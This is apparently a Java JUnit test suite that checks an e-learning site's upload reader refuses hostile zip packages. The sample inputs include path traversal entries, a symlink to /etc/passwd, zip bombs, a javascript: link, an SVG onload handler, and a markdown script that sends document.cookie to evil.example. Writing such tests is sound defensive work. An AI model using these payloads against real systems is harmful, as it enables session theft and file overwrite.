package org.greencustoms.elearning.content.control;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.greencustoms.elearning.content.control.ZipPackageReader.Limits;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** A corpus of hostile uploads, built in memory; each is refused with its own problem key. */
@DisplayName("A hostile upload")
class HostilePackagesTest {

    private static final String NAME = "upload.zip";
    private static final byte[] MODULE = TestPackage.MODULE.getBytes(StandardCharsets.UTF_8);

    @Test
    void isMeasuredAgainstTheIssuesLimitsByDefault() {
        assertThat(Limits.DEFAULT).isEqualTo(new Limits(5_000, 500L << 20, 50L << 20, 100, 50L << 20));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {"../evil.md|zip.parentFolder", "pkg/units/../../evil.md|zip.parentFolder",
        "/etc/evil.md|zip.absolutePath", "C:/evil.md|zip.driveLetter", "pkg/units\\evil.md|zip.backslash"})
    void escapingThePackageIsRefused(String path, String key) {
        assertRefused(zip(entry("pkg/module.yaml", MODULE), entry(path, bytes("owned"))), Limits.DEFAULT, key, path);
    }

    @Test
    void aSymbolicLinkIsRefused() {
        byte[] zip = zip(entry("pkg/module.yaml", MODULE),
                entry("pkg/media/link.png", bytes("/etc/passwd"), e -> e.setUnixMode(0120777)));

        assertRefused(zip, Limits.DEFAULT, "zip.symlink", "pkg/media/link.png");
    }

    @Test
    void moreThan5000EntriesAreRefused() {
        List<Entry> entries = new ArrayList<>();
        for (int i = 0; i <= 5_000; i++) {
            entries.add(entry("pkg/media/" + i + ".png", TestPackage.png()));
        }

        assertRefused(zip(entries.toArray(Entry[]::new)), Limits.DEFAULT, "zip.tooManyEntries", "5000");
    }

    @Test
    void anEntryExpandingMoreThan100TimesIsRefused() {
        byte[] zip = zip(entry("pkg/module.yaml", MODULE), entry("pkg/media/zeros.png", new byte[8 << 20]));

        Problem problem = refusal(zip, Limits.DEFAULT);

        assertThat(problem.key()).isEqualTo("zip.ratio");
        assertThat(problem.args()).first().isEqualTo("pkg/media/zeros.png");
        assertThat(Integer.parseInt(problem.args().get(1))).isGreaterThan(100);
    }

    @Test
    void entriesEachUnderTheRatioButTooLargeTogetherAreRefused() {
        List<Entry> entries = new ArrayList<>(List.of(entry("pkg/module.yaml", MODULE)));
        for (int i = 0; i < 12; i++) {
            entries.add(entry("pkg/media/" + i + ".png", compressible(100 << 10, i)));
        }
        Limits oneMegabyte = new Limits(5_000, 1L << 20, 50L << 20, 100, 50L << 20);

        assertRefused(zip(entries.toArray(Entry[]::new)), oneMegabyte, "zip.tooLargeUnpacked", "1");
    }

    @Test
    void aZipLargerThanTheLimitIsRefusedAsSoonAsTheLimitIsPassed() {
        CountingEndlessStream upload = new CountingEndlessStream();
        Limits limits = new Limits(5_000, 500L << 20, 50L << 20, 100, 1L << 20);

        InvalidPackageException refused = catchThrowableOfType(InvalidPackageException.class,
                () -> new ZipPackageReader(NAME, limits).read(upload));

        assertThat(refused.problems()).extracting(Problem::key).containsExactly("zip.tooLarge");
        assertThat(upload.read).isGreaterThan(1L << 20).isLessThanOrEqualTo((1L << 20) + 8192);
    }

    @Test
    void aNestedArchiveIsRefusedByItsName() {
        byte[] zip = zip(entry("pkg/module.yaml", MODULE), entry("pkg/media/more.zip", bytes("anything")));

        assertRefused(zip, Limits.DEFAULT, "zip.nestedArchive", "pkg/media/more.zip");
    }

    @Test
    void aNestedArchiveIsRefusedByItsFirstBytes() {
        byte[] inner = zip(entry("evil.md", bytes("hidden")));
        byte[] gzip = {0x1F, (byte) 0x8B, 8, 0, 0, 0, 0, 0};

        assertRefused(zip(entry("pkg/module.yaml", MODULE), entry("pkg/media/photo.png", inner)), Limits.DEFAULT,
                "zip.nestedArchive", "pkg/media/photo.png");
        assertRefused(zip(entry("pkg/module.yaml", MODULE), entry("pkg/units/02.md", gzip)), Limits.DEFAULT,
                "zip.nestedArchive", "pkg/units/02.md");
    }

    @Test
    void aNameTwiceIsRefused() {
        assertRefused(zip(entry("pkg/module.yaml", MODULE), entry("pkg/module.yaml", MODULE)), Limits.DEFAULT,
                "zip.duplicate", "pkg/module.yaml");
    }

    @Test
    void namesDifferingOnlyInCaseAreRefused() {
        assertRefused(zip(entry("pkg/module.yaml", MODULE), entry("pkg/Module.yaml", MODULE)), Limits.DEFAULT,
                "zip.caseDuplicate", "pkg/Module.yaml");
    }

    @Test
    void aFileThatIsNotAZipIsRefused() {
        assertRefused(bytes("MZ\u0090\u0000 this is a program"), Limits.DEFAULT, "zip.notAZip");
    }

    @Test
    void anEncryptedEntryIsRefused() {
        byte[] zip = zip(entry("pkg/module.yaml", MODULE));
        markEncrypted(zip);

        assertRefused(zip, Limits.DEFAULT, "zip.encrypted", "pkg/module.yaml");
    }

    @Test
    void yamlNestedAThousandLevelsDeepIsAProblemWithItsLine() {
        TestPackage pkg = TestPackage.valid().file("quiz.yaml", "questions: " + "[".repeat(1_000));

        assertThat(parsed(pkg)).singleElement().satisfies(problem("quiz.yaml", 1, "yaml.tooDeep"));
    }

    @Test
    void aScriptInMarkdownIsAProblemWithItsLine() {
        TestPackage pkg = TestPackage.valid().file("units/01-intro.md",
                TestPackage.UNIT + "\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n");

        assertThat(parsed(pkg)).singleElement().satisfies(problem("units/01-intro.md", 9, "markdown.script"));
    }

    @Test
    void aJavascriptLinkIsAProblemWithItsLine() {
        TestPackage pkg = TestPackage.valid().file("units/01-intro.md",
                TestPackage.UNIT + "\nSee [the annex](javascript:alert(document.domain)).\n");

        assertThat(parsed(pkg)).singleElement().satisfies(problem("units/01-intro.md", 9, "markdown.scriptLink"));
    }

    @Test
    void anSvgImageIsRefused() {
        TestPackage pkg = TestPackage.valid().file("media/flow.svg",
                "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>");

        assertThat(parsed(pkg)).singleElement().satisfies(problem("media/flow.svg", null, "media.svg"));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource({"Windows, 4D5A9000", "Linux, 7F454C46"})
    void anExecutableRenamedPngIsNotAPng(String system, String magic) {
        byte[] program = Arrays.copyOf(java.util.HexFormat.of().parseHex(magic), 4_096);
        TestPackage pkg = TestPackage.valid().file("media/photo.png", program);

        assertThat(parsed(pkg)).singleElement().satisfies(problem("media/photo.png", null, "media.typeMismatch"))
                .extracting(Problem::args).isEqualTo(List.of("PNG", "png"));
    }

    /** The problems of a package uploaded as a zip, read and parsed as an upload is. */
    private static List<Problem> parsed(TestPackage pkg) {
        PackageFiles files = PackageFiles.fromZip(NAME, new ByteArrayInputStream(pkg.zipped()), Limits.DEFAULT);
        InvalidPackageException refused = catchThrowableOfType(InvalidPackageException.class,
                () -> new PackageParser().parse(files));
        assertThat(refused).as("the package should be refused").isNotNull();
        return refused.problems();
    }

    private static Consumer<Problem> problem(String file, Integer line, String key) {
        return problem -> {
            assertThat(problem.file()).as("file of %s", problem).isEqualTo(file);
            assertThat(problem.line()).as("line of %s", problem).isEqualTo(line);
            assertThat(problem.key()).as("key of %s", problem).isEqualTo(key);
        };
    }

    private static void assertRefused(byte[] zip, Limits limits, String key, String... args) {
        Problem problem = refusal(zip, limits);
        assertThat(problem.key()).isEqualTo(key);
        assertThat(problem.args()).containsExactly(args);
    }

    /** The single problem of a refused zip; the reader returns nothing else, so nothing of it is left behind. */
    private static Problem refusal(byte[] zip, Limits limits) {
        InvalidPackageException refused = catchThrowableOfType(InvalidPackageException.class,
                () -> new ZipPackageReader(NAME, limits).read(new ByteArrayInputStream(zip)));
        assertThat(refused).as("the zip should be refused").isNotNull();
        assertThat(refused.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.file()).isEqualTo(NAME);
            assertThat(problem.hint(java.util.Locale.ENGLISH)).isNotBlank();
        });
        return refused.problems().get(0);
    }

    private record Entry(String name, byte[] bytes, Consumer<ZipArchiveEntry> setUp) {
    }

    private static Entry entry(String name, byte[] bytes) {
        return new Entry(name, bytes, e -> { });
    }

    private static Entry entry(String name, byte[] bytes, Consumer<ZipArchiveEntry> setUp) {
        return new Entry(name, bytes, setUp);
    }

    /** A zip written by commons-compress, which, unlike java.util.zip, writes unix modes and repeated names. */
    private static byte[] zip(Entry... entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(out)) {
            for (Entry entry : entries) {
                ZipArchiveEntry archived = new ZipArchiveEntry(entry.name());
                entry.setUp().accept(archived);
                zip.putArchiveEntry(archived);
                zip.write(entry.bytes());
                zip.closeArchiveEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** Sets the "encrypted" flag of every entry, in local and central headers, as an encrypting tool would. */
    private static void markEncrypted(byte[] zip) {
        for (int i = 0; i + 10 < zip.length; i++) {
            if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 3 && zip[i + 3] == 4) {
                zip[i + 6] |= 1;
            } else if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2) {
                zip[i + 8] |= 1;
            }
        }
    }

    /** Bytes that deflate about as well as text (a few times), different for each seed. */
    private static byte[] compressible(int size, long seed) {
        byte[] bytes = new byte[size];
        Random random = new Random(seed);
        for (int i = 0; i < size; i++) {
            bytes[i] = (byte) ('a' + random.nextInt(8));
        }
        return bytes;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** An upload that never ends, counting the bytes taken from it. */
    private static final class CountingEndlessStream extends InputStream {
        long read;

        @Override
        public int read() {
            read++;
            return 'P';
        }

        @Override
        public int read(byte[] buffer, int offset, int length) {
            Arrays.fill(buffer, offset, offset + length, (byte) 'P');
            read += length;
            return length;
        }
    }
}
